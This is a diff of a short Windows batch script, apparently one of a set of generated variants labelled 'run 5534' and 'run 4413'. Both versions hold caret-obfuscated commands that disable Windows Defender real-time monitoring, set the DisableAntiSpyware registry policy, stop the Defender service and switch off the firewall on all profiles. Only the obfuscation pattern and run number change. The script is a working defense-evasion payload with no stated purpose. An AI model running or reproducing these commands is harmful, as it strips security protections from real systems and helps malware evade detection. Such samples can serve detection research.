@@ -1,5 +1,5 @@
-REM run 5534 v0
-pow^ers^h^el^l -^c "Set-MpPreference -DisableRealtimeMonitoring $true"
-^r^e^g a^dd "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v D^isable^An^tiS^py^w^are /^t ^RE^G_DWORD /^d 1 /f
-^s^c s^top WinD^e^fe^nd
-n^e^tsh ^adv^f^i^re^wal^l set all^pr^of^il^es ^st^at^e o^f^f
+REM run 4413 v0
+po^w^e^r^sh^ell -^c "Set-MpPreference -DisableRealtimeMonitoring $true"
+r^eg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /^v ^Di^s^abl^e^A^n^t^i^S^p^y^wa^re /t R^E^G_DW^O^R^D /^d ^1 /f
+^s^c ^stop Wi^nDef^e^nd
+^n^e^t^s^h ^advfir^ewal^l se^t a^llpro^f^ile^s ^s^t^ate o^ff
